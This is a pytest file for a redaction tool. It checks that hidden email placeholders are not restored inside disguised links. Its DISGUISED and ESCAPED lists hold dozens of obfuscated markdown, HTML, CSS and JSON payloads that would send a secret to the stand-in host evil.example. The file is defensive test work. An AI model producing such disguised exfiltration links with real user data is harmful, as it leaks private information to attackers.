"""Links in disguise: only a browser, a Markdown renderer or a JSON parser sees that they lead anywhere."""

from __future__ import annotations

import json

import pytest

from tests.redaction.kit import JSON, everywhere, redacted
from tests.redaction.test_cost import assert_linear, linear_stream

VAULT = redacted(["anna@x.com uses https://shop.example/a."], {"anna@x.com": "EMAIL_ADDRESS"})[1].vault
HIDDEN = "<EMAIL_ADDRESS_1>"

DISGUISED = [
    r"![x](https\://evil.example/?q=@)",
    r"![x](https\:\/\/evil.example/?q=@)",
    r"[x]: https\://evil.example/?q=@",
    r"![x](\/\/evil.example/?q=@)",
    r"![x](<\//evil.example/?q=@>)",
    "![x](\n//evil.example/?q=@)",
    "![x](https&#58;//evil.example/?q=@)",
    "![x](https&#x3A;evil.example/?q=@)",
    "![x](&#104;ttps:&#47;&#47;evil.example/?q=@)",
    "![x](&#104;&#116;&#x74;ps://evil.example/?q=@)",
    "![x](https&colon;&sol;&sol;evil.example/?q=@)",
    "![x](&#47;/evil.example/?q=@)",
    "![x](&#58;//evil.example/?q= @ )",
    '<img src="&#x2f;/evil.example/?q=@">',
    '<img src="https&#58//evil.example/?q=@">',
    '<img src="https&#58//evil.example/?a b=@">',
    '<a href="ht&Tab;tps:/&NewLine;/evil.example/?q=@">',
    '<img src="h\nttps:/\n/evil.example/?q=@">',
    '<img src="h\nttps:\n//evil.example/?q=@">',
    r'<img src="\/evil.example/?q=@">',
    r'<img src="\\evil.example/?q=@">',
    r'<img src="/\evil.example/?q=@">',
    r'<img src="//\evil.example/?q=@">',
    r"<img alt='a long text, longer than what is looked back for' src= '\\evil.example/?q=@'>",
    r'<object data="\\evil.example/@"></object>',
    '<img srcset="a.png 1x, //evil.example/@ 2x">',
    r"![x](/\evil.example/?q=@)",
    r"![x](\\\\evil.example/?q=@)",
    r"[x](</\evil.example/?q=@>)",
    "[x]:\n  /\\evil.example/?q=@",
    r"background: url(h\74tps\3a//evil.example/@)",
    r"background: url(\2f/evil.example/@)",
    r"@import '\2f\2f evil.example/@'",
    r"https://shop.example\@evil.example/?q=@",
    r"![x](https://shop.example\.evil.example/?q=@)",
]


@pytest.mark.parametrize("text", DISGUISED)
def test_a_link_in_disguise_leads_nowhere(text: str) -> None:
    reply = text.replace("q=@", f"q={HIDDEN}").replace("/@", f"/{HIDDEN}").replace("b=@", f"b={HIDDEN}")
    reply = reply.replace("q= @", f"q= {HIDDEN}")
    assert HIDDEN in reply
    assert everywhere(VAULT, reply) == reply
    document = json.dumps({"html": reply})
    assert everywhere(VAULT, document, JSON) == document


ESCAPED = [
    r'{"url": "http\u003a//evil.example/?q=@"}',
    r'{"url": "\u0068ttps:\u002f\u002fevil.example\u002f?q=@"}',
    r'{"url": "h\u0074tp\u003A\u002F\u002Fevil.example/?q=@"}',
    r'{"url": "ftp:\u002f\u002fevil.example/?q=@"}',
    r'{"url": "\u002f/evil.example/?q=@"}',
    r'{"url": "\/\/evil.example\/?q=@"}',
    r'{"in": "{\"url\": \"ftp:\\u002f\\u002fevil.example/?q=@\"}"}',
]


@pytest.mark.parametrize("text", ESCAPED)
def test_an_argument_in_disguise_leads_nowhere(text: str) -> None:
    reply = text.replace("@", HIDDEN)
    assert everywhere(VAULT, reply, JSON) == reply


PLAIN = [
    r"C:\Users\@\x.txt, C:\\Users\\@",
    r'path = r"\\server\share\@"',
    r"see (\\server\share\@), f(/\d+@/), a </\ @",
    r'data = "\\n@"',
    "case 1:\n// @ wrote this",
    "default:\n//@",
    "foo(\n  // @\n)",
    r"const re = /\b@\b/; const other = '\/@\/';",
    "It&#39;s @, &quot;@&quot;, a &amp; b: @",
    r"\begin{tabular} Name \\ \hline @ \\ $a\:b$ @",
    '<a href="/profile?of=@">@</a> <img src="img\\a.png" alt="@">',
    "[a](/local/path?q=@) [b](mailto:@) [c](#@)",
    "[a](https://shop.example/x?q=@) and &#104;ello @",
    r"see https\://evil.example/docs for @",
    r"set url=jdbc\:postgresql\://db.example/x for @",
]


@pytest.mark.parametrize("text", PLAIN)
def test_what_only_looks_like_one_is_restored(text: str) -> None:
    reply, meant = text.replace("@", HIDDEN), text.replace("@", "anna@x.com")
    assert everywhere(VAULT, reply) == meant
    assert json.loads(everywhere(VAULT, json.dumps({"k": reply}), JSON)) == {"k": meant}


def test_a_link_in_disguise_comes_back_to_who_wrote_it() -> None:
    link = r"![x](https\://other.example/?q=anna@x.com)"
    texts, redaction = redacted([f"Check {link}"], {"anna@x.com": "EMAIL_ADDRESS"})
    assert everywhere(redaction.vault, texts[0]) == f"Check {link}"


UNITS = ["\\", "](//a) ", "/\\", "&#58;", "src=", '="\\', "](\\", ":\n", ",  //", "&Tab;", "\\2f ", 'src="\\/a" ']


@pytest.mark.parametrize("unit", UNITS)
def test_looking_for_them_costs_no_more_than_the_text_is_long(unit: str) -> None:
    assert_linear(linear_stream(VAULT, unit), 16_000)
